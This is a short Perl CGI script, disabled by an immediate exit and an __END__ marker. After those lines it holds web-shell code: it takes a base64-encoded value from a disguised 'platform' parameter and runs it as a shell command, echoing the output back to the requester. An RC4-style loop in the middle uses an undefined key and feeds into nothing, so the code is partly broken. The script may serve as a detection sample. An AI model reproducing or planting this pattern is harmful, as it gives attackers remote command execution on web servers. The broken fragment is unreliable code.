#!/usr/bin/perl
exit;
__END__
my  $q  =  CGI->new ;
my  $v  =  $q -> param ( "platform" ) ;
my  $t  =  decode_base64( $v ) ;
my  @s  =  ( 0 .. 255 ) ; my $j = 0 ;
for my $i ( 0 .. 255 ) { $j = ( $j + $s[ $i ] + ord( substr( $key , $i % length $key , 1 ) ) ) % 256 ; @s[ $i , $j ] = @s[ $j , $i ] }
open( my $pipe , "$t |" ) ;
print while <$pipe> ;
